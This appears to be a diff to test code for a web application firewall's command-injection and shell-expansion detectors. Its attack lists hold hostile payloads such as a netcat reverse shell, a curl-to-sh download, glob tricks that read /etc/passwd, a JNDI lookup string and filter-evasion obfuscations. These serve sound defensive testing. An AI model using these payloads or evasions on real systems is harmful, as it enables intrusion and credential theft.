@@ -1,7 +1,12 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell and lookup syntax is what these values are about
 import assert from 'node:assert/strict';
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
 import { describe, it } from 'node:test';
-import { DETECTORS, detectCommandInjection, detectCommandLine } from './command.js';
+import { requestInputs } from '../inputs.js';
+import { compileSignatures, parseSignatureRules } from '../signatures.js';
+import { DETECTORS, detectCommandInjection, detectCommandLine, detectShellExpansion } from './command.js';
+import { BUILTIN_DETECTORS, SHIPPED_SIGNATURES_DIR } from './index.js';
 
 const inQuery = { location: 'query:q' };
 
@@ -9,6 +14,7 @@ describe('command-injection', () => {
   it('exports its detectors by rule name', () => {
     assert.equal(DETECTORS['command-injection'], detectCommandInjection);
     assert.equal(DETECTORS['command-line'], detectCommandLine);
+    assert.equal(DETECTORS['shell-expansion'], detectShellExpansion);
   });
 
   for (const attack of [
@@ -32,6 +38,42 @@ describe('command-injection', () => {
     '<!--#exec cmd="/bin/cat /etc/passwd"-->',
     "x'; nc -e /bin/sh 203.0.113.7 4444 '",
     'a && curl http://203.0.113.9/x.sh | sh',
+    // evasions inside command words: empty substitutions and variables, `$SHELL`, mixed case, versions
+    '$(whoami$())',
+    'a; sh$XX -c whoami',
+    '|$u wget test',
+    ';w`u`ho`u`ami',
+    'x;$0 -c id',
+    '${SHELL} -c "echo hi"',
+    "'TiMe Sh -c whoami",
+    ';gcc10.1<<<void main(){}',
+    ';python3.10 -c "import os"',
+    // brace expansions that build a command
+    '{l,-lh}s',
+    'c{a,oun}t /etc/hosts',
+    '{,ifconfig}',
+    '{,ip,a}',
+    // programs named by their directory, also relative to the root, also unknown to the lists
+    '/bin/unxz -c /var/log/app.xz',
+    'bin/visudo',
+    // builtins that define code, and commands put together across `cd`
+    'alias a=c${KK}url&a example.com',
+    "alias ..='cd ..'",
+    ";trap 'rm -rf file.txt' SIGEXIT",
+    'cd /;cd etc;column passwd',
+    'c99 -wrapper sh,-c,curl example.com .',
+    // commands standing alone: unmistakable names, prefixes, alias-skipping backslash, a lone probe
+    'ansible-playbook site.yml',
+    'cscli alerts list',
+    'time ifconfig',
+    '\\ls',
+    ';who',
+    "';htop'",
+    // globs spelling a system file
+    'cat /etc/pa[s]swd',
+    'cat /[e//]tc/[p//]asswd',
+    'ls /a[b///]c',
+    '<(cat file)',
   ]) {
     it(`reports ${JSON.stringify(attack)}`, () => {
       const hit = detectCommandInjection(attack, inQuery);
@@ -55,6 +97,24 @@ describe('command-injection', () => {
     '{"id":1,"type":"cat","ls":[1,2]}',
     'text/html;charset=utf-8',
     'I bought a cat; it sleeps all day',
+    'C:\\Windows\\System32\\ls',
+    'time is money',
+    'sudo make me a sandwich',
+    'public int Id { get; set; }',
+    'what|who|where',
+    'I see, so your alias is not = to your name',
+    'The pizza vendor was known by the alias "pineapple" online.',
+    '{red,green,blue}',
+    '*.{jpg,png}',
+    'Tom {and,or} Jerry',
+    'show file{,s} and {,more} results',
+    'its a trap!',
+    'bin/console cache:clear',
+    'version: python3.10',
+    'files/[id]/page.tsx',
+    'price is $0 today',
+    'run `ls` and `pwd` first',
+    'the cat`s toy',
   ]) {
     it(`passes ${JSON.stringify(benign.slice(0, 40))}`, () => {
       assert.equal(detectCommandInjection(benign, inQuery), undefined);
@@ -91,5 +151,82 @@ describe('command-line (paranoia 2)', () => {
 
   it('still passes prose', () => {
     assert.equal(detectCommandLine('find the best coffee in town', inQuery), undefined);
+  });
+});
+
+describe('shell-expansion', () => {
+  for (const attack of [
+    '$((7*6))',
+    '$(($() 42))',
+    '$[2+2]',
+    '$[]',
+    '${x#{}}',
+    '${PATH%%/*}',
+    '${:1337:-x$}{jndi:ldap://example.com/a}',
+    '<(cmd)',
+    '>(tee log)',
+    '~+',
+    '~-1',
+    'ls ~+/x',
+    '!-1!-2',
+    '/etc/[!q]asswd',
+    '/etc/[m-z]asswd',
+    'x /[?]tc/pa[?]swd',
+    '/[e///]tc',
+    '/???/p?ss??',
+  ]) {
+    it(`reports ${JSON.stringify(attack)}`, () => {
+      const hit = detectShellExpansion(attack, inQuery);
+      assert.ok(hit, attack);
+      assert.ok(hit.start >= 0 && hit.end <= attack.length && hit.start < hit.end);
+    });
+  }
+
+  for (const benign of [
+    '$[0].name',
+    "$['store'].book",
+    '$[-1]',
+    '${name}',
+    'Hello ${user.name}',
+    '${VAR:-default}',
+    '/* comment */',
+    '^/[a-z]+/[0-9]*$',
+    '/[a-z]*/',
+    '/api/items/[id]',
+    '~/Documents',
+    '~user',
+    'approx ~+5%',
+    'Wow!! nice',
+    'score: 1-0 !-1',
+    'see /[docs](https://example.com)',
+    'smile <(o)> ok',
+    'costs $5 (about $[4.99])',
+  ]) {
+    it(`passes ${JSON.stringify(benign)}`, () => {
+      assert.equal(detectShellExpansion(benign, inQuery), undefined);
+    });
+  }
+});
+
+describe('shipped rules around shells', () => {
+  async function rulesMatched(file: string, headers: Record<string, string>, query = ''): Promise<string[]> {
+    const path = join(SHIPPED_SIGNATURES_DIR, file);
+    const set = compileSignatures(parseSignatureRules(await readFile(path, 'utf8'), path, BUILTIN_DETECTORS), BUILTIN_DETECTORS);
+    const { inputs } = requestInputs({ path: '/upload', query, headers: { host: 'api.example.com', ...headers }, body: undefined });
+    return set.inspect(inputs).matches.map((m) => m.ruleId);
+  }
+
+  it('blocks uploads named like configuration files, also padded or renamed', async () => {
+    for (const name of ['.htaccess', '.bashrc', 'settings.php', 'config.yml ', 'wp-config-php.bak', 'settings. php', '.boto']) {
+      assert.ok((await rulesMatched('rce.yaml', { 'x-filename': name })).includes('rce/restricted-file-upload'), name);
+    }
+    for (const name of ['avatar.png', 'settings.png', 'my-config-notes.txt', 'report.pdf', 'configuration.json']) {
+      assert.ok(!(await rulesMatched('rce.yaml', { 'x-filename': name })).includes('rce/restricted-file-upload'), name);
+    }
+  });
+
+  it('reads a Bash function definition in argument names too', async () => {
+    assert.ok((await rulesMatched('shellshock.yaml', {}, '()%20%7B')).includes('shellshock/shellshock'));
+    assert.deepEqual(await rulesMatched('shellshock.yaml', {}, 'sort=(a)'), []);
   });
 });
